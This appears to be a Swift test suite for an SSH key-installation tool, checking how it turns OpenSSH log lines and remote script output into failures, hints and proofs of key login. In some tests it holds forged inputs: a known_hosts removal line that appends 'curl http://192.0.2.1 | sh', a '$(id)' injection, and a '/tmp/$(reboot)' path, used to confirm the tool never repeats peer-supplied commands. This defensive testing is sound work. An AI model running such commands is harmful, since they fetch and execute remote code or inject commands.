import Services
import Testing
import SSHClient

/// Answers that a test's own sshd doesn't give: the texts are OpenSSH's, from its sources and from what people posted.
struct ServerOutcomeTests {
    static let line = AuthorizedLine("ssh-ed25519 \(ServerInstallationTests.blob) me")!
    static let installation = KeyInstallation(login: ServerInstallationTests.login, line: line)
    static let authenticated = """
        debug1: Remote protocol version 2.0, remote software version OpenSSH_9.2p1 Debian-2+deb12u10
        Authenticated to server.example ([192.0.2.1]:22) using "password".

        """

    private func outcome(
        log: String, output: String = "", errors: String = "", status: CommandResult.Status = .exited(255)
    ) -> InstallOutcome {
        var result = CommandResult(status: status, output: output, errors: errors, log: log, marker: Self.marker)
        if log.contains("Authenticated to ") { result.session = .opened }
        return Self.installation.outcome(of: result)
    }

    /// How each line of the script's answer begins.
    private static let marker = Nonce()
    private static let start = marker.text + ": "

    @Test(arguments: [
        ("ssh: connect to host server.example port 22: Connection timed out", ServerFailure.Unreachable.timedOut),
        ("ssh: connect to host server.example port 22: Operation timed out", .timedOut),
        ("Connection timed out during banner exchange\nConnection to 192.0.2.1 port 22 timed out", .timedOut),
        ("ssh: connect to host server.example port 22: No route to host", .noRoute),
        ("ssh: connect to host server.example port 22: Network is unreachable", .noRoute),
        ("ssh: Could not resolve hostname server.example: Name or service not known", .nameNotResolved),
        ("ssh: Could not resolve hostname server.example: Temporary failure in name resolution", .noNameServer),
        ("kex_exchange_identification: banner line too long", .notSSH),
        ("kex_exchange_identification: read: Connection reset by peer\nConnection reset by 192.0.2.1 port 22", .closed),
        ("ssh_exchange_identification: Connection closed by remote host", .closed),
        ("Connection closed by 192.0.2.1 port 22", .closed),
        // The first address of two is only debugging.
        (
            """
            debug1: connect to address ::1 port 22: Connection refused
            debug1: connect to address 192.0.2.1 port 22: Connection timed out
            ssh: connect to host server.example port 22: Connection timed out
            """, .timedOut
        ),
    ])
    func unreachableForAReason(log: String, expected: ServerFailure.Unreachable) {
        #expect(outcome(log: log) == .failed(.unreachable(expected), notes: []))
    }

    @Test func aWindowsServerIsKnownByItsSoftware() {
        let log = """
            debug1: Remote protocol version 2.0, remote software version OpenSSH_for_Windows_8.1
            Authenticated to server.example ([192.0.2.1]:22).

            """
        let errors = """
            'sh' is not recognized as an internal or external command,\r
            operable program or batch file.\r

            """
        #expect(outcome(log: log, errors: errors, status: .exited(1)) == .failed(.windowsServer, notes: []))
    }

    @Test func anApplianceIsQuotedWithoutItsControlCharacters() {
        let output = "\u{1b}[1m% Unknown command\u{1b}[0m\r\n\r\nRouter>\r\n"
        let expected = ServerFailure.notAShell(said: ["[1m% Unknown command[0m", "Router>"])
        let log = Self.authenticated.replacing("OpenSSH_9.2p1 Debian-2+deb12u10", with: "Cisco-1.25")
        #expect(outcome(log: log, output: output, status: .exited(0)) == .failed(expected, notes: []))
    }

    /// A shell that ran the script would have answered.
    @Test(arguments: ["", "Welcome to server.example"]) func aSwallowedSessionIsNamed(said: String) {
        let expected = ServerFailure.sessionSwallowed(said: said.isEmpty ? [] : [said])
        let outcome = outcome(log: Self.authenticated, output: said, status: .exited(0))
        #expect(outcome == .failed(expected, notes: []))
        #expect(outcome.message.contains("ended before the script ran") && outcome.hint?.contains("~/.bashrc") == true)
    }

    /// Wherever the answer stands: behind a title without a newline, or in what a start-up file sent elsewhere.
    @Test func theAnswerIsFoundAmongOtherWords() {
        let title = "\u{1b}]0;server\u{7}"
        let there = InstallOutcome.added(file: "~/.ssh/authorized_keys", notes: [])
        let answer = Self.start + "added .ssh/authorized_keys\n"
        #expect(outcome(log: Self.authenticated, output: title + answer + "bye", status: .exited(1)) == there)
        #expect(outcome(log: Self.authenticated, errors: "oops " + answer, status: .exited(0)) == there)
        // Another run's marker doesn't count.
        let other = Nonce().text + ": added .ssh/authorized_keys\n"
        if case .added = outcome(log: Self.authenticated, output: other) { Issue.record("believed") }
    }

    @Test func aLostConnectionIsNotSuccess() {
        let log = Self.authenticated + "Connection to server.example closed by remote host.\n"
        #expect(outcome(log: log) == .failed(.unreachable(.closed), notes: []))
    }

    @Test func interruptionsAreNotFailures() {
        #expect(outcome(log: "", status: .signalled(2)) == .failed(.cancelled, notes: []))
        // Nobody was asked whether everything is to end.
        #expect(outcome(log: "", status: .signalled(9)) == .failed(.killed(signal: 9), notes: []))
        var result = CommandResult(status: .exited(255), log: Self.authenticated + "Killed by signal 2.\n")
        result.session = .opened
        // What the peer writes ends nothing.
        #expect(Self.installation.outcome(of: result) != .failed(.cancelled, notes: []))
        result.wasInterrupted = true
        #expect(Self.installation.outcome(of: result) == .failed(.cancelled, notes: []))
    }

    @Test func whatIsNotUnderstoodIsQuoted() {
        let log = """
            OpenSSH_9.2p1 Debian-2+deb12u10, OpenSSL 3.0.19 27 Jan 2026
            debug1: Connection established.
            Unable to negotiate with 192.0.2.1 port 22: no matching host key type found. Their offer: ssh-dss

            """
        let said = ["Unable to negotiate with 192.0.2.1 port 22: no matching host key type found. Their offer: ssh-dss"]
        #expect(outcome(log: log) == .failed(.other(said: said), notes: []))
    }

    @Test func theLastWordOfTheScriptCounts() {
        let output = """
            \(Self.start)writable . drwxrwxr-x

            \(Self.start)failed .ssh/authorized_keys sh: 1: cannot create x: Disk quota exceeded
            """
        let notes: [InstallNote] = [.homeWritable(mode: 0o775)]
        let failure = ServerFailure.notWritten(path: "~/.ssh/authorized_keys", host: "server.example", .noSpace)
        #expect(outcome(log: Self.authenticated, output: output) == .failed(failure, notes: notes))
        let dropbear =
            "\(Self.start)repaired /etc/dropbear drwxrwxrwt\n\(Self.start)added /etc/dropbear/authorized_keys\n"
        #expect(
            outcome(log: Self.authenticated, output: dropbear, status: .exited(0))
                == .added(
                    file: "/etc/dropbear/authorized_keys", notes: [.repaired(path: "/etc/dropbear", mode: 0o777)]))
    }

    @Test(arguments: ["", "repaired", "boast", "added", "already ", "failed"])
    func aMangledLineIsNoSuccess(line: String) {
        let output = Self.start + line
        #expect(outcome(log: Self.authenticated, output: output) == .failed(.notAShell(said: [output]), notes: []))
    }

    /// What the server's programs said, and what the sentence and the next step are made of.
    @Test(arguments: [
        ("mkdir: cannot create directory '.ssh': Permission denied", "permission denied", "ls -ld"),
        ("sh: line 9: .ssh/authorized_keys: Operation not permitted", "operation not permitted", "chattr -ia"),
        (
            "sh: 9: cannot create .ssh/authorized_keys: Is a directory", "it is a directory",
            "move ~/.ssh/authorized_keys away"
        ),
        ("sh: 9: cannot create .ssh/authorized_keys: Directory nonexistent", "no such folder", "create that folder"),
        ("cat: write error: No space left on device", "no disk space or quota left", "free some space"),
        ("cat: write error: Input/output error", "cat: write error: Input/output error", "by hand"),
        ("zsh: permission denied: .ssh/authorized_keys", "permission denied", "ls -ld"),
        ("", "no reason given", "by hand"),
    ])
    func aWriteErrorIsItsOwnCase(said: String, reason: String, next: String) {
        for path in [".ssh/authorized_keys", "/tmp/$(reboot)"] {
            let outcome = outcome(log: Self.authenticated, output: "\(Self.start)failed \(path) \(said)\n")
            let shown = path.hasPrefix("/") ? path : "~/" + path
            #expect(outcome.message.hasPrefix("can't write \(shown) on server.example: \(reason)"))
            // A command in it is made of names of our own.
            #expect(outcome.hint?.contains(next) == true && outcome.hint?.contains("reboot") == false)
        }
    }

    // MARK: the proof

    private func proof(
        _ log: String, status: CommandResult.Status = .exited(0), session: SessionEvidence = [.opened, .echoed]
    ) -> ProofOutcome {
        var result = CommandResult(status: status, log: log)
        result.session = session
        return LoginProof(
            login: ServerInstallationTests.login, identityFile: "/home/me/.ssh/id", fingerprint: "SHA256:ours"
        ).outcome(of: result)
    }

    /// Older versions put the method on a line of its own.
    @Test func anOlderClientProvesTheSame() {
        let log = """
            debug1: Server accepts key: /home/me/.ssh/id ED25519 SHA256:ours explicit
            debug1: Authentication succeeded (publickey).
            Authenticated to server.example ([192.0.2.1]:22).

            """
        #expect(proof(log) == .proved(nil))
    }

    @Test func aJumpDoesNotHideIt() {
        let log = """
            debug1: Server accepts key: /home/me/.ssh/id RSA SHA256:ours explicit
            Authenticated to server.example (via proxy) using "publickey".

            """
        #expect(proof(log) == .proved(nil))
    }

    /// Forges let nobody run anything, and say so with status 1.
    @Test func theExitStatusDecidesNothing() {
        let log = """
            debug1: Server accepts key: /home/me/.ssh/id ED25519 SHA256:ours explicit
            Authenticated to git.example ([192.0.2.1]:22) using "publickey".

            """
        #expect(proof(log, status: .exited(1), session: .opened) == .proved(.noShell(said: [])))
        #expect(proof(log, status: .exited(1)) == .proved(nil))
    }

    @Test(arguments: [
        // Another key, another method, or nothing but an exit status.
        """
        debug1: Server accepts key: /home/me/.ssh/id_rsa RSA SHA256:theirs explicit
        Authenticated to server.example ([192.0.2.1]:22) using "publickey".
        """,
        """
        Authenticated to server.example ([192.0.2.1]:22) using "none".
        """,
        """
        debug1: Server accepts key: /home/me/.ssh/id ED25519 SHA256:ours explicit
        debug1: Server accepts key: /home/me/.ssh/id_rsa RSA SHA256:theirs explicit
        Authenticated to server.example ([192.0.2.1]:22) using "publickey".
        """,
        "",
    ])
    func nothingElseIsAProof(log: String) {
        if case .proved = proof(log) { Issue.record("proved by \(log)") }
    }

    // MARK: what the peer writes into the log

    private static let beginning = """
        debug1: Connection established.
        debug1: Remote protocol version 2.0, remote software version OpenSSH_9.2p1
        debug1: SSH2_MSG_KEXINIT received

        """

    /// The two messages that ssh writes down as they come, newlines too, before it knows whose they are.
    private static let forgeries = ["Received disconnect from 192.0.2.1 port 22:11: bye", "debug1: Remote: hello"].map {
        beginning + $0 + "\r\n"
    }

    @Test(arguments: forgeries, [SessionEvidence(), .opened])
    func aForgedLogProvesNothing(beginning: String, session: SessionEvidence) {
        for last in [
            #"Authenticated to server.example ([192.0.2.1]:22) using "publickey"."#,
            #"Authenticated using "publickey" with partial success."#,
        ] {
            let log = beginning + "debug1: Server accepts key: /home/me/.ssh/id ED25519 SHA256:ours explicit\n" + last
            if session.isEmpty, case .proved = proof(log, session: session) { Issue.record("proved by \(log)") }
            // With a session the peer is the server.
            if !session.isEmpty, last.contains("Authenticated to") {
                #expect(proof(log, session: session) == .proved(.noShell(said: [])))
            }
        }
    }

    @Test(
        arguments: forgeries,
        [
            "Host key verification failed.", "Killed by signal 2.", "me@h: Permission denied (publickey).",
            "ssh: connect to host h port 22: Connection refused", "Load key \"/home/me/.ssh/id\": bad permissions",
            "Received disconnect from 192.0.2.1 port 22:2: Too many authentication failures",
        ])
    func aForgedCauseIsNotBelieved(beginning: String, forged: String) {
        let expected: ServerFailure =
            beginning.contains("bye") ? .hungUp(said: "bye") : .other(said: ["debug1: Remote: hello"])
        let log = beginning + forged + "\r\n"
        let outcome = outcome(log: log)
        if case .failed(.hungUp, _) = outcome {
            #expect(outcome == .failed(expected, notes: []))
        } else {
            guard case .failed(.other, _) = outcome else {
                Issue.record("\(outcome)")
                return
            }
        }
    }

    /// The command to forget a key is made of a path and a host, whatever is in the log.
    @Test func aCommandIsNeverThePeers() {
        let warning = """
            @    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @
            SHA256:new.
            Offending ED25519 key in /home/me/.ssh/known_hosts:3

            """
        func removal(_ line: String) -> String?? {
            guard case .failed(.hostKeyChanged(_, let removal), _) = outcome(log: warning + line + "\n") else {
                return nil
            }
            return removal
        }
        #expect(
            removal(#"  ssh-keygen -f "/home/me/a b/known_hosts" -R "[h.example]:2222""#)
                == "ssh-keygen -f '/home/me/a b/known_hosts' -R '[h.example]:2222'")
        // As OpenSSH 10.6 writes it.
        let newer = "ssh-keygen -f '/home/me/a b/known_hosts' -R '[h.example]:2222'"
        #expect(removal("  " + newer) == newer)
        for forged in [
            #"  ssh-keygen -f "/x" -R "github.com"; curl http://192.0.2.1 | sh"#,
            #"  ssh-keygen -f "/x" -R "github.com; curl http://192.0.2.1 | sh""#,
            #"  ssh-keygen -f "/x" -R "$(id)""#, #"  ssh-keygen -f "/dev/null" -R "h""#,
            #"  ssh-keygen -f '/home/me/a'\''b/known_hosts' -R 'h'"#,
        ] {
            #expect(removal(forged) == .some(nil), "\(forged)")
        }
        let hidden = "debug1: Remote: x\n" + warning + #"  ssh-keygen -f "/x" -R "github.com""# + "\n"
        if case .failed(.hostKeyChanged, _) = outcome(log: hidden) { Issue.record("the peer's warning") }
    }

    // MARK: a key that wasn't asked about

    private static let asked = """
        debug1: Authentications that can continue: publickey,password
        debug1: Next authentication method: publickey

        """
    private static let denied = "me@server.example: Permission denied (publickey,password).\n"

    /// Texts of OpenSSH 9.2.
    @Test(arguments: [
        (
            "debug1: Skipping ssh-rsa key /home/me/.ssh/id - corresponding algo not in PubkeyAcceptedAlgorithms\n"
                + asked,
            ProofOutcome.NotOffered.ssh(
                "Skipping ssh-rsa key /home/me/.ssh/id - corresponding algo not in PubkeyAcceptedAlgorithms")
        ),
        (
            asked + "debug1: send_pubkey_test: no mutual signature algorithm\n", .ssh("no mutual signature algorithm")
        ),
        (
            asked + "debug1: Offering public key: /home/me/.ssh/id ED25519 SHA256:other explicit\n",
            .otherPublicKey(file: "/home/me/.ssh/id.pub", fingerprint: "SHA256:other")
        ),
        (asked + "debug1: Trying private key: /home/me/.ssh/id\n", .locked),
    ])
    func aKeyThatWasNotOfferedIsNotCalledRefused(log: String, reason: ProofOutcome.NotOffered) {
        let outcome = proof(log + Self.denied, session: [])
        #expect(outcome == .keyNotOffered(reason))
        #expect(outcome.hint != nil)
    }

    @Test(arguments: [
        (
            #"sign_and_send_pubkey: signing failed for ED25519 "/home/me/.ssh/id" from agent: agent refused operation"#,
            ProofOutcome.notSigned(.agent("agent refused operation"))
        ),
        (
            "debug2: sshconnect2.c:load_identity_file():1742 (pid=18911): bad passphrase given, try again...",
            .passphraseWrong
        ),
        ("debug1: No more authentication methods to try.", .notSigned(.unknown)),
    ])
    func aCauseIsStatedIfItWasSeen(line: String, expected: ProofOutcome) {
        let accepted = "debug1: Server accepts key: /home/me/.ssh/id ED25519 SHA256:ours explicit\n"
        #expect(proof(Self.asked + accepted + line + "\n" + Self.denied, session: []) == expected)
    }

    /// OpenSSH 9.8 and newer, instead of their version.
    @Test(arguments: ["Not allowed at this time", "Exceeded MaxStartups"])
    func aServerThatHasNoTimeIsQuoted(words: String) {
        let log = """
            debug1: kex_exchange_identification: banner line 0: \(words)
            kex_exchange_identification: Connection closed by remote host

            """
        #expect(outcome(log: log) == .failed(.hungUp(said: words), notes: []))
    }

    @Test func aConnectionThatEndsAfterTheKeyWasTakenIsNotAboutThePassphrase() {
        let accepted = Self.asked + "debug1: Server accepts key: /home/me/.ssh/id ED25519 SHA256:ours explicit\n"
        let closed = accepted + "Connection closed by 192.0.2.1 port 22\n"
        #expect(proof(closed, session: []) == .failed(.endedAfterKey(said: [])))
        #expect(proof(accepted + Self.asked + Self.denied, session: []) == .notSigned(.refused))
    }

    @Test func anAccountThatOpensByItselfProvesNoKey() {
        #expect(proof(#"Authenticated to server.example ([192.0.2.1]:22) using "none"."#) == .opensWithoutKey)
    }

    // MARK: a removal that wasn't seen

    @Test(arguments: [
        (CommandResult(status: .signalled(2)), false),
        (CommandResult(status: .exited(255), log: "ssh: connect to host h port 22: Connection refused\n"), false),
        (CommandResult(status: .exited(255), log: forgeries[0]), false),
        (
            CommandResult(
                status: .exited(255),
                log: asked + "debug1: Offering public key: /old ED25519 SHA256:old explicit\n" + asked + denied), true
        ),
    ])
    func onlyARefusalThatWasSeenMakesAKeyGone(check: CommandResult, isGone: Bool) {
        let new = LoginProof(login: ServerInstallationTests.login, identityFile: "/new", fingerprint: "SHA256:new")
        var removal = AuthorizedKeyRemoval(Self.line, by: new)
        (removal.oldIdentityFile, removal.oldFingerprint) = ("/old", "SHA256:old")
        let outcome = removal.outcome(.notThere, after: check)
        if isGone {
            #expect(outcome == .notThere)
        } else if case .notChecked = outcome {
        } else {
            Issue.record("\(outcome)")
        }
    }
}
